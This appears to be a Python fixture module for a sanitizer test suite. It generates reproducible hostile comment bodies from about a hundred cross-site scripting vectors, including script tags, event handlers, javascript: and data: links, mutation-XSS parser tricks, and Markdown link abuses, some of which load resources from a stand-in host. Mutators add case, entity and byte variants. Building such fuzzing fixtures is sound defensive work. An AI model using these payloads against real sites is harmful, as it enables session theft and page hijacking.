"""Comment bodies written to run a script or to fetch something, the same ones every time."""

from __future__ import annotations

import random
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

# What a body wants to run; the test looks for its traces.
RUN = "window.__pwned=1;alert(1)"
HOME = "http://evil.invalid"

VECTORS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT >",
    "<script src={home}/x.js></script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script\x0b>{run}</script>",
    "</p></article></section><script>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src='x' onerror=\"{run}\">",
    "<img/src=x/onerror={run}>",
    "<img src={home}/pixel.png>",
    "<IMG SRC=`x` onerror={run}>",
    '<img src="x" srcset="{home}/a 1x">',
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<math><mi//xlink:href='data:x,<script>{run}</script>'>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={run}>'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<template><script>{run}</script></template>",
    "<xmp><img src=x onerror={run}></xmp>",
    "<textarea></textarea><script>{run}</script>",
    "<title></title><script>{run}</script>",
    "<style>@import '{home}/x.css';</style>",
    "<style>*{{background:url({home}/x)}}</style>",
    "<link rel=stylesheet href={home}/x.css>",
    "<link rel=preload as=image href={home}/x.png>",
    "<base href={home}/>",
    "<meta http-equiv=refresh content='0;url={home}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<iframe src=javascript:{run}></iframe>",
    '<iframe srcdoc="<script>parent.window.__pwned=1</script>"></iframe>',
    "<iframe src={home}></iframe>",
    "<object data=javascript:{run}></object>",
    "<object data={home}/x.swf></object>",
    "<embed src={home}/x.swf>",
    "<video src=x onerror={run}></video>",
    "<video poster={home}/x.png></video>",
    "<audio src={home}/x.mp3 autoplay></audio>",
    "<video><source onerror={run}></video>",
    "<body onload={run}>",
    "<input onfocus={run} autofocus>",
    "<select onfocus={run} autofocus><option>x</select>",
    "<details open ontoggle={run}>x</details>",
    "<marquee onstart={run}>x</marquee>",
    "<div onmouseover={run} onclick={run}>x</div>",
    "<b onmouseenter={run} onpointerover={run}>x</b>",
    "<p style=animation-name:x onanimationstart={run}>x</p>",
    "<p style='background:url({home}/x)'>x</p>",
    "<table background={home}/x><td>x</table>",
    "<a href=javascript:{run}>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<a href=' &#14; javascript:{run}'>x</a>",
    "<a href=&#106;avascript:{run}>x</a>",
    "<a href=data:text/html,<script>{run}</script>>x</a>",
    "<a ping={home} href=#>x</a>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<button formaction=javascript:{run}>x</button>",
    "<isindex action=javascript:{run} type=image>",
    "<!--><script>{run}</script>-->",
    "<!--[if IE]><script>{run}</script><![endif]-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml-stylesheet href={home}/x.css?><script>{run}</script>",
    "<x onclick={run} tabindex=1>x</x>",
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java&#115;cript:{run})",
    "[x](javascript&colon;{run})",
    "[x](<javascript:{run}>)",
    "[x](<java\tscript:{run}>)",
    "[x](\x01javascript:{run})",
    "[x](vbscript:{run})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.invalid/x)",
    '[x](http://e.org "onclick={run} x=")',
    "[x](http://e.org'onclick={run})",
    '[x](http://e.org/"onmouseover="{run})',
    "[x]: javascript:{run}\n\n[x]",
    "[x][y]\n\n[y]: <javascript:{run}> 'x'",
    "![x](javascript:{run})",
    "![x]({home}/pixel.png)",
    '![x" onerror="{run}](x)',
    '![x](x "\\" onerror={run} y=\\"")',
    "![x](data:image/svg+xml,<svg onload={run}>)",
    "[![x]({home}/a.png)](javascript:{run})",
    "<javascript:{run}>",
    '<http://e.org/"onclick="{run}">',
    'http://e.org/"onmouseover="{run}',
    "www.e.org/'><img src=x onerror={run}>",
    'a@e.org"onclick={run}',
    "```<script>{run}</script>\nx\n```",
    "```\n</code></pre><script>{run}</script>\n```",
    "`</code><img src=x onerror={run}>`",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\ue000script>{run}\ue000/script>",
    "]:\ue001<img src=x onerror={run}>",
    "{{{{ ''.__class__ }}}}{{% raw %}}<script>{run}</script>",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\u202e<tpircs>{run}<script>",
    "<\x00script>{run}</script>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
)  # fmt: skip

CONTEXTS = (
    "{}",
    "ord {} ord",
    "> {}",
    "- {}",
    "2. {}",
    "# {}",
    "**{}**",
    "*{}* och *{}*",
    "`{}`",
    "    {}",
    "```\n{}\n```",
    "[{}](http://e.org)",
    "[x](http://e.org/{})",
    '[x](http://e.org "{}")',
    "![{}](http://e.org/a.png)",
    "[x]: http://e.org/{}\n\n[x]",
    "<{}>",
    "<b>{}</b>",
    "<p title='{}'>x</p>",
    "<!-- {} -->",
    "{}\n{}",
    "> - {}\n>   1. {}",
)


def _case(body: str, dice: random.Random) -> str:
    parts = body.split(RUN)
    return RUN.join("".join(dice.choice((c.lower(), c.upper())) for c in part) for part in parts)


def _insert(body: str, dice: random.Random) -> str:
    at = dice.randrange(len(body) + 1)
    odd = ("\x00", "\t", "\n", "\r", "\x0c", "\\", "/", "<", '"', "`", "\u200b", "\u00a0", "]")
    return body[:at] + dice.choice(odd) + body[at:]


def _entity(body: str, dice: random.Random) -> str:
    at = dice.randrange(len(body))
    form = dice.choice(("&#{};", "&#x{:x};", "&#{:07d}", "&#x{:x}"))
    return body[:at] + form.format(ord(body[at])) + body[at + 1 :]


def _cut(body: str, dice: random.Random) -> str:
    start = dice.randrange(len(body))
    return body[:start] + body[start + dice.randrange(4) :]


def _splice(body: str, dice: random.Random) -> str:
    other = _vector(dice)
    return body[: dice.randrange(len(body) + 1)] + other[dice.randrange(len(other)) :]


def _same(body: str, _dice: random.Random) -> str:
    return body


MUTATIONS: tuple[Callable[[str, random.Random], str], ...] = (
    _same,
    _same,
    _case,
    _insert,
    _entity,
    _cut,
    _splice,
)


def _vector(dice: random.Random) -> str:
    return dice.choice(VECTORS).format(run=RUN, home=HOME)


def bodies(number: int, seed: int) -> Iterator[str]:
    """Yield so many different hostile bodies: each vector, then mutations of them in contexts."""
    dice = random.Random(seed)  # noqa: S311 - the same dice every time is the point
    seen = set()
    for vector in VECTORS:
        seen.add(body := vector.format(run=RUN, home=HOME))
        yield body
    while len(seen) < number:
        body = dice.choice(CONTEXTS).replace("{}", _vector(dice))
        for _ in range(dice.randrange(4)):
            body = dice.choice(MUTATIONS)(body, dice) or "<"
        if body not in seen:
            seen.add(body)
            yield body
